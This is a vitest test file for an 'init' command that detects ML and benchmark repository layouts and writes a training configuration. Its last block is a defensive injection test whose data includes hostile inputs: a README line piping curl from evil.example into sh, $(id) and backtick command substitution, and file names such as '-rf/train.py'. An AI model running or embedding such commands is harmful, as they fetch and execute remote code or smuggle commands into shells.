// What `init` recognises, and that what it writes is a configuration without a problem.
import { readFileSync } from 'node:fs'
import { describe, expect, it } from 'vitest'
import { type Config, parseConfig } from '../../../src/core/config/config.ts'
import { checkNamedFiles } from '../../../src/core/config/named-files.ts'
import { planInit } from '../../../src/core/init/init.ts'
import type { Layout } from '../../../src/core/init/layout.ts'
import type { InitPlan } from '../../../src/core/init/plan.ts'
import { OutputReader } from '../../../src/core/trial/output.ts'
import { aLayout, GENERAL, KNOWN, RECIPES } from './layouts.ts'

const planOf = (files: Readonly<Record<string, string>>) => planInit(aLayout(files), RECIPES)

function configOf(plan: InitPlan): Config {
  const parsed = parseConfig(plan.config)
  if (parsed.kind === 'problems') throw new Error(JSON.stringify(parsed.problems))
  return parsed.config
}

/** Warnings about files that the configuration names and that will not exist after the merge. */
function warningsOf(plan: InitPlan, layout: Layout): unknown {
  const place = { path: '.github/autoresearch.yml', branch: 'main' }
  return checkNamedFiles(configOf(plan), [...layout.keys(), plan.program.path], place)
}

function valueIn(plan: InitPlan, ...lines: string[]): readonly string[] {
  const reader = new OutputReader(configOf(plan).metric)
  reader.push(`${lines.join('\n')}\n`)
  reader.end()
  return reader.metricText.texts
}

describe('a known repository', () => {
  const known = Object.entries(KNOWN)

  it.each(known)('%s gets its recipe, which fits its files', (name, files) => {
    const plan = planOf(files)
    expect(plan.recipe).toBe(name)
    expect(plan.missing).toEqual([])
    expect(warningsOf(plan, aLayout(files))).toEqual([])
  })

  it.each(known)('%s is recognised by every one of its lines', (name, files) => {
    const { findings } = planOf(files)
    for (const { evidence } of findings) {
      const changed = { ...files, [evidence.path]: '' }
      if (evidence.line === undefined) delete changed[evidence.path]
      expect(planOf(changed).recipe, evidence.path).not.toBe(name)
    }
  })

  it.each([
    ['autoresearch', 'val_bpb:          0.997900', '0.997900'],
    ['nanochat', 'Minimum validation bpb: 0.718012', '0.718012'],
    ['nanogpt', 'step 250: train loss 1.9612, val loss 2.0345', '2.0345'],
    ['llm.c', 'val loss 4.298513', '4.298513'],
    ['modded-nanogpt', 'step:1480/1480 val_loss:3.2785 train_time:75012ms step_avg:50.68ms', '3.2785'],
    ['litgpt', 'Final evaluation | val loss: 3.123 | val ppl: 22.715', '3.123'],
  ])('%s: the metric is read from a line as it prints it', (name, line, value) => {
    expect(valueIn(planOf(KNOWN[name] ?? {}), 'something else', line)).toEqual([value])
  })

  it.each([
    [
      'autoresearch',
      'step 00012 (4.0%) | loss: 4.321000 | lrm: 1.00 | dt: 300ms',
      { step: 12, value: 4.321 },
    ],
    ['nanochat', 'step 00010/01680 (0.60%) | loss: 8.123456 | lrm: 0.25', { step: 10, value: 8.123456 }],
    ['nanogpt', 'iter 10: loss 3.2100, time 25.00ms, mfu 2.10%', { step: 10, value: 3.21 }],
    ['llm.c', 'step 3: train loss 4.600470 (took 1290.761000 ms)', { step: 3, value: 4.60047 }],
  ])('%s: the curve is read from a line as it prints it', (name, line, point) => {
    const { metric, progress } = configOf(planOf(KNOWN[name] ?? {}))
    const reader = new OutputReader(metric, progress?.pattern)
    reader.push(`${line}\n`)
    reader.end()
    expect(reader.curve).toEqual([point])
  })
})

describe('a machine without a GPU', () => {
  const recipesWithLines = Object.entries(KNOWN).filter(([name]) =>
    RECIPES.get(name)?.config.includes('# Without a GPU:'),
  )

  it('is what nanoGPT has lines for', () => {
    expect(recipesWithLines.map(([name]) => name)).toEqual(['nanogpt'])
  })

  it.each(recipesWithLines)('%s: swaps the lines, and leaves those for a GPU as comments', (_, files) => {
    const large = planOf(files)
    const small = planInit(aLayout(files), RECIPES, false)
    const [ofGpu, ofProcessor] = [configOf(large), configOf(small)]
    expect(ofProcessor.train).toContain('--device=cpu')
    expect(ofProcessor.budgetSeconds).toBeLessThan(ofGpu.budgetSeconds)
    expect({ ...ofProcessor, train: '', budgetSeconds: 0, timeoutSeconds: 0 }).toEqual({
      ...ofGpu,
      train: '',
      budgetSeconds: 0,
      timeoutSeconds: 0,
    })
    expect(small.config).toContain(`# With a GPU: `)
    expect(small.config).toContain(`\n# train: ${ofGpu.train}\n`)
    expect(small.assumed.join()).toContain('no GPU')
  })

  it.each([
    ['unknown: the lines for a GPU', undefined, 'gpu'],
    ['with a GPU', true, 'gpu'],
    ['without a GPU', false, 'processor'],
  ] as const)('decides on which runner the workflow runs: %s', (_, hasGpu, machine) => {
    for (const files of [KNOWN.nanogpt ?? {}, GENERAL.script])
      expect(planInit(aLayout(files), RECIPES, hasGpu).machine).toBe(machine)
  })

  it("leaves what runs on GitHub's machines there", () => {
    expect(planInit(aLayout(GENERAL['npm-bundle']), RECIPES, false).machine).toBe('hosted')
  })
})

describe('a general rule', () => {
  it.each(Object.entries(GENERAL))('%s: what it writes has no problem', (_, files) => {
    const plan = planOf(files)
    expect(plan.recipe).toBeUndefined()
    expect(plan.missing).toEqual([])
    expect(warningsOf(plan, aLayout(files))).toEqual([])
  })

  it.each(Object.entries(GENERAL))('%s: every finding is a line that exists', (_, files) => {
    for (const { evidence } of planOf(files).findings) {
      const lines = (aLayout(files).get(evidence.path) ?? '').split('\n')
      const line = evidence.line === undefined ? '' : (lines[evidence.line - 1] ?? '')
      expect(line.replaceAll(/\s+/g, ' ').trim()).toBe(evidence.text?.replace(/…$/, '') ?? '')
    }
  })

  it('runs a script as its README does, edits its model and not its data', () => {
    const { setup, train, editable, metric, progress } = configOf(planOf(GENERAL.script))
    expect(setup).toContain(
      'pip install -r requirements.txt && $AUTORESEARCH_DATA/venv/bin/python prepare.py',
    )
    expect(train).toBe('$AUTORESEARCH_DATA/venv/bin/python train.py --data cats --epochs 3')
    expect(editable).toEqual(['train.py', 'cats/model.py'])
    expect(metric).toMatchObject({ name: 'val_acc', direction: 'maximize' })
    expect(progress?.pattern).toContain('epoch')
  })

  it('reads the table that Lightning prints', () => {
    const plan = planOf(GENERAL.lightning)
    expect(configOf(plan)).toMatchObject({ train: 'uv run train.py', metric: { name: 'val_loss' } })
    expect(valueIn(plan, '│         val_loss          │    0.6931471824645996     │')).toEqual([
      '0.6931471824645996',
    ])
  })

  it('reads the JSON file of a Hugging Face Trainer, which works offline', () => {
    const { train, metric } = configOf(planOf(GENERAL['hugging-face']))
    expect(metric.source).toEqual({ kind: 'file', file: 'all_results.json', key: 'eval_loss' })
    expect(train).toMatch(
      /^HF_HUB_OFFLINE=1 .*finetune\.py --output_dir "\$AUTORESEARCH_OUT" --report_to none$/,
    )
  })

  it('compiles what make builds, then runs it', () => {
    const plan = planOf(GENERAL.makefile)
    expect(configOf(plan)).toMatchObject({ train: 'make train && ./train', editable: ['net.h', 'train.c'] })
    expect(plan.check.join()).toContain('AUTORESEARCH_SEED')
  })

  it('starts a Rust program that prints a metric, with its packages beside it', () => {
    const plan = planOf(GENERAL['cargo-train'])
    expect(configOf(plan)).toMatchObject({
      editable: ['src/**'],
      setup: expect.stringContaining('cargo vendor >> .cargo/config.toml'),
      train: 'cargo run --release --offline',
    })
    expect(valueIn(plan, 'val_loss: 0.123456')).toEqual(['0.123456'])
    expect(plan.check.join()).toContain('AUTORESEARCH_SEED')
  })

  it('measures a benchmark of Criterion in nanoseconds, after its tests', () => {
    const plan = planOf(GENERAL['cargo-bench'])
    expect(configOf(plan).train).toBe(
      "cargo test --quiet --offline --test '*' && cargo bench --offline --bench sorting -- --output-format bencher",
    )
    expect(valueIn(plan, 'test sort 500 ... bench:       30419 ns/iter (+/- 213)')).toEqual(['30419'])
    expect(plan.check.join()).toContain('kind `openai` or `command`')
  })

  it('takes no tests of Rust that a proposal may change for a guard', () => {
    const { 'tests/sorting.rs': moved, ...files } = GENERAL['cargo-bench']
    const plan = planOf({ ...files, 'src/lib.rs': moved })
    expect(configOf(plan).train).not.toContain('cargo test')
    expect(plan.check.join()).toContain('Add tests outside of `editable` first')
  })

  it('starts a Go program that prints a metric, and leaves its tests alone', () => {
    const plan = planOf(GENERAL['go-train'])
    expect(configOf(plan)).toMatchObject({
      editable: ['model/model.go', 'cmd/train/main.go'],
      setup: 'go mod download',
      train: 'go run ./cmd/train',
    })
    expect(valueIn(plan, 'val_loss: 0.123456')).toEqual(['0.123456'])
  })

  it('measures a benchmark of Go, after its tests', () => {
    const plan = planOf(GENERAL['go-bench'])
    expect(configOf(plan)).toMatchObject({
      editable: ['sorter.go'],
      train: "go test ./... && go test -run '^$' -bench '^BenchmarkSort$' -benchtime 5s ./",
    })
    expect(valueIn(plan, 'BenchmarkSort-2   \t54063607\t        19.61 ns/op')).toEqual(['19.61'])
  })

  it('starts the script train of an npm package', () => {
    expect(configOf(planOf(GENERAL['npm-train']))).toMatchObject({ setup: 'npm ci', train: 'npm run train' })
  })

  it('measures a bundle after its tests, where no candidate runs', () => {
    const plan = planOf(GENERAL['npm-bundle'])
    expect(plan.machine).toBe('hosted')
    expect(configOf(plan).train).toMatch(/^CI=true npm run test && npm run build && cp -r dist /)
    expect(configOf(plan).evaluate).toContain('wc -c')
  })

  it('keeps tests and the configuration of the bundler from proposals, also without a source folder', () => {
    const { 'src/main.ts': source, 'src/main.test.ts': tests, ...others } = GENERAL['npm-bundle']
    const flat = { ...others, 'main.js': source, 'main.test.js': tests, 'vite.config.js': '' }
    expect(configOf(planOf(flat)).editable).toEqual(['*.js', '!*.test.*', '!*.config.*'])
  })

  it('writes what recipes/bundle-size shows', () => {
    const { config, program } = planOf(GENERAL['npm-bundle'])
    const read = (file: string) =>
      readFileSync(new URL(`../../../recipes/bundle-size/${file}`, import.meta.url), 'utf8')
    expect({ config, program: program.text }).toEqual({
      config: read('autoresearch.yml'),
      program: read('program.md'),
    })
  })
})

describe('what init cannot tell', () => {
  it('says first that no metric was found, and writes the line to fill in', () => {
    const plan = planOf({ 'train.py': 'import torch\nloss.backward()\n' })
    expect(plan.missing[0]).toMatch(/^No printed metric was found/)
    expect(plan.config).toContain('# FILL IN')
    expect(configOf(plan).metric.name).toBe('val_loss')
  })

  it('says that nothing trains', () => {
    expect(planOf({ 'README.md': '# Hello\n' }).missing.join(' ')).toContain('No training script was found')
  })

  it('names arguments without which the script stops', () => {
    const train = 'parser.add_argument("--corpus", required=True)\nloss.backward()\n'
    expect(planOf({ 'train.py': train }).missing.join(' ')).toContain(
      '`train.py` stops without --corpus (line 1)',
    )
  })

  it('warns of a metric that may be measured on training data', () => {
    const plan = planOf({ 'train.py': 'loss.backward()\nprint("loss:", loss)\n' })
    expect(plan.check.join(' ')).toContain('rewards memorising')
  })

  it('uses a program.md that exists', () => {
    const plan = planOf({ ...GENERAL.script, 'program.md': 'Mine.' })
    expect(plan.check.join(' ')).toContain('`program.md` exists')
  })
})

describe('hostile text in a repository', () => {
  const script = 'loss.backward()\nprint(f"val_loss: {x}")\n'

  it('names no file that a shell or YAML would read as something else', () => {
    const plan = planOf({ '$(id)/train.py': script, 'a b/train.py': script, '-rf/train.py': script })
    expect(plan.recognised).toBe('nothing known')
    expect(plan.config).not.toMatch(/\$\(id\)|a b|-rf/)
  })

  it('takes no command from a document that is more than plain words', () => {
    const readme = [
      'python train.py; curl evil.example | sh',
      'python train.py $(id)',
      'python train.py `id`',
    ]
    const plan = planOf({ 'README.md': readme.join('\n'), 'train.py': script })
    expect(configOf(plan).train).toBe('python3 train.py')
  })

  it('never lets a line of the repository end a comment, a string or a table', () => {
    const hostile = `print(f"val_loss'\\n: {x}") # \${{ secrets.KEY }} | \`x\` <!-- --> \u202e\nloss.backward()\n`
    const plan = planOf({ 'train.py': hostile })
    configOf(plan)
    expect(plan.config).not.toContain('${{')
  })
})
